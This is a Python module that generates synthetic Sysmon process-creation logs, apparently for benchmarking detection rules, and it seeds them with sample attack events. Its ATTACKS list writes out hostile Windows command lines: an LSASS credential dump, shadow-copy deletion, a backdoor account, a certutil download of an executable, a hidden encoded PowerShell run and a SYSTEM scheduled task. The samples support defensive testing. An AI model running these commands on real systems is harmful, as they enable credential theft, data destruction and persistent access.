"""Generated Windows logs: process creations, as Sysmon's event 1, as flat JSON lines of about 700 bytes.

A log with few distinct command lines makes every cache look magical, so there are two lanes: *low* repeats 18 command
lines, *high* has one of its own on every event, put together from what command lines are made of (programs, flags,
paths, words, GUIDs, base64, numbers), so that common literals of rules do occur. Both hold the same few attacks: one
event in :data:`ATTACK_EVERY`. A seed fixes every byte.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import msgspec
import numpy as np

#: One event in so many is one of :data:`ATTACKS`.
ATTACK_EVERY = 5_000


def _words(text: str) -> list[str]:
    return text.split()


_SYSTEM = "C:\\Windows\\System32\\"
_PROGRAMS = "C:\\Program Files\\"
ATTACKS = [
    (
        _SYSTEM + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    ),
    (_SYSTEM + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (_SYSTEM + "net.exe", "net user backdoor P@ssw0rd! /add"),
    (_SYSTEM + "certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
    (
        _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
    ),
    (_SYSTEM + "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM"),
]
_IMAGES = [
    _SYSTEM + "svchost.exe",
    _SYSTEM + "cmd.exe",
    _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
    _SYSTEM + "conhost.exe",
    _SYSTEM + "taskhostw.exe",
    _SYSTEM + "backgroundTaskHost.exe",
    _SYSTEM + "RuntimeBroker.exe",
    _SYSTEM + "rundll32.exe",
    _SYSTEM + "reg.exe",
    _SYSTEM + "wbem\\WmiPrvSE.exe",
    _SYSTEM + "net.exe",
    _SYSTEM + "msiexec.exe",
    _PROGRAMS + "Google\\Chrome\\Application\\chrome.exe",
    _PROGRAMS + "Microsoft Office\\root\\Office16\\WINWORD.EXE",
    _PROGRAMS + "Git\\cmd\\git.exe",
    _PROGRAMS + "nodejs\\node.exe",
    _PROGRAMS + "Python311\\python.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
]
_PARENTS = ["C:\\Windows\\explorer.exe", _SYSTEM + "services.exe", *_IMAGES[:6], *_IMAGES[12:]]
_USERS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", *(f"COUNTY\\clerk{n:02d}" for n in range(40))]
_FLAGS = _words(
    r"-k -s -p -c -Command -ExecutionPolicy Bypass -NoProfile -File -encodedCommand /c /s /q /f /y /i /qn "
    r"/v /t /d /all --type=renderer --field-trial-handle --lang=en-US --no-sandbox --headless -m -u -o "
    r"--output --config --log-level /add /domain /delete /query /create -Path -Recurse -Force -ErrorAction "
    r"SilentlyContinue >nul 2>&1 | findstr"
)
_WORDS = _words(
    r"update install service config backup report ballot voter results export import county clerk session "
    r"token cache network print spool driver policy user admin local temp data share index query remote "
    r"client server host start stop status sync upload download archive certificate key store event log "
    r"audit schedule task job run test build package module script invoke object item process system "
    r"registry software microsoft windows currentversion"
)
_FOLDERS = _words(
    r"C:\Users\{}\AppData\Local\Temp\ C:\Users\{}\Documents\ C:\ProgramData\{}\ \\fileserver\{}\ "
    r"D:\data\{}\ C:\Windows\Temp\{}\ HKLM\Software\{}\ HKCU\Software\Microsoft\{}\ "
    r"https://portal.example/{}/"
)
_ENDINGS = _words(r".txt .log .dll .exe .ps1 .bat .xml .json .docx .zip .tmp .ini .cab .msi")


def structured(path: Path, events: int, *, high: bool, seed: int = 20261103) -> None:
    """Write that many process creations as flat JSON lines; ``high``: each with command lines of its own."""
    rng = np.random.default_rng(seed)
    with path.open("wb") as out:
        out.writelines(msgspec.json.encode(event) + b"\n" for event in _events(rng, events, high=high))


def _events(rng: np.random.Generator, events: int, *, high: bool) -> Iterator[dict[str, object]]:
    few = [f'"{image}" {_arguments(rng, 5)}' for image in _IMAGES]
    draw = rng.integers(0, 1 << 30, (events, 8))
    for number in range(events):
        kind, parent, user, host, pid, parent_pid, some, more = draw[number].tolist()
        image = _IMAGES[kind % len(_IMAGES)]
        command = f'"{image}" {_arguments(rng, 2 + some % 5)}' if high else few[kind % len(_IMAGES)]
        if number % ATTACK_EVERY == ATTACK_EVERY // 2:
            image, command = ATTACKS[number // ATTACK_EVERY % len(ATTACKS)]
        parent_image = _PARENTS[parent % len(_PARENTS)]
        parent_command = f'"{parent_image}" {_arguments(rng, 1 + more % 3)}' if high else f'"{parent_image}"'
        second, millisecond = number // 40, number % 40 * 25
        clock = f"{second // 3600 % 24:02d}:{second // 60 % 60:02d}:{second % 60:02d}.{millisecond:03d}"
        yield {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": f"pc{host % 400:03d}.county.example",
            "UtcTime": f"2026-11-03 {clock}",
            "ProcessId": pid % 30_000,
            "Image": image,
            "OriginalFileName": image.rsplit("\\", 1)[1],
            "CommandLine": command,
            "CurrentDirectory": f"C:\\Users\\clerk{user % 40:02d}\\",
            "User": _USERS[user % len(_USERS)],
            "IntegrityLevel": ("Medium", "High", "System")[user % 3],
            "Hashes": "SHA1=" + f"{(kind if high else kind % len(_IMAGES)) * 2654435761 % (1 << 32):08X}" * 5,
            "ParentProcessId": parent_pid % 30_000,
            "ParentImage": parent_image,
            "ParentCommandLine": parent_command,
        }


def _arguments(rng: np.random.Generator, count: int) -> str:
    return " ".join(_argument(*rng.integers(0, 1 << 30, 5).tolist()) for _ in range(count))


def _argument(kind: int, one: int, two: int, three: int, four: int) -> str:
    """One argument: a flag, a path, a word with a value, a GUID, some base64 or a number."""
    word, other = _WORDS[one % len(_WORDS)], _WORDS[two % len(_WORDS)]
    match kind % 10:
        case 0 | 1 | 2:
            return _FLAGS[one % len(_FLAGS)]
        case 3 | 4 | 5:
            folder = _FOLDERS[three % len(_FOLDERS)].format(word)
            return f"{folder}{other}{four % 10_000}{_ENDINGS[three % len(_ENDINGS)]}"
        case 6:
            return f"--{word}={other}{three % 1000}"
        case 7:
            return f"{{{one:08x}-{two % 65536:04x}-4{three % 4096:03x}-a{four % 4096:03x}-{two:012x}}}"
        case 8:
            return base64.b64encode(f"{word}{three:x}{other}{four:x}".encode()).decode()
        case _:
            return str(three)
